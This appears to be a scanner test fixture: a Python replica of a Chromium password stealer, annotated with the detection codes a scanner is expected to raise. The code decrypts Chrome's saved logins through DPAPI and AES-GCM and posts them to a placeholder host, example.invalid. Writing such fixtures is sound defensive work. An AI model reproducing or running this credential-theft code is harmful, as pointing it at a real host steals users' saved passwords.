# Defanged replica of a Chromium password grabber (the "decrypt" half of
# commodity stealers and InvisibleFerret's browser module): it reads the AES
# key from `Local State`, unwraps it with DPAPI and decrypts `v10` blobs from
# `Login Data`, then posts them. Decryption alone is what cookie libraries
# do too (HS233 is medium); the upload makes it theft (HS111).
import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests

import win32crypt  # expect: HS233 medium
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

USER_DATA = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data")


def master_key():
    with open(os.path.join(USER_DATA, "Local State"), encoding="utf-8") as f:
        state = json.load(f)
    key = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def decrypt(blob, key):
    if blob[:3] in (b"v10", b"v11"):
        nonce, payload = blob[3:15], blob[15:]
        return AESGCM(key).decrypt(nonce, payload, None).decode()
    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1].decode()


def logins():
    key = master_key()
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(USER_DATA, "Default", "Login Data"), copy)
    db = sqlite3.connect(copy)
    found = []
    for url, user, blob in db.execute(
        "SELECT origin_url, username_value, password_value FROM logins"
    ):
        found.append((url, user, decrypt(blob, key)))
    db.close()
    requests.post("https://example.invalid/upload", json=found)  # expect: HS111 high
